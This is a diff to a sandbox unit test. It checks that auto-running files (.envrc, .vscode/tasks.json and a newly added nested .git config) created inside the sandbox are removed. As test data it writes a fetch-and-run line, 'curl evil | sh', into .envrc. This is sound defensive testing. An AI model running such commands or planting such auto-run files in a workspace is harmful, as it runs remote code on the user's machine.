@@ -538,12 +538,15 @@ void tst_BubblewrapSandbox::createdDeniedPathsAreRemoved()
 {
     auto result = m_sandbox->exec(
         shell(QStringLiteral("echo 'curl evil | sh' > .envrc; mkdir -p .vscode; "
-                             "echo '{}' > .vscode/tasks.json; echo ok > notes.txt")),
+                             "echo '{}' > .vscode/tasks.json; echo ok > notes.txt; "
+                             "mkdir -p sub/.git && echo '[core]' > sub/.git/config")),
         {});
     QVERIFY(result.has_value());
     QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".envrc"))));
     QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral(".vscode/tasks.json"))));
     QVERIFY(QFileInfo::exists(m_workspace->filePath(QStringLiteral("notes.txt"))));
+    // git on the host would honour a nested repository's config (core.fsmonitor runs a program).
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(QStringLiteral("sub/.git"))));
     QVERIFY2(result->stderrData.contains("removed .envrc"), result->stderrData);
 }
 
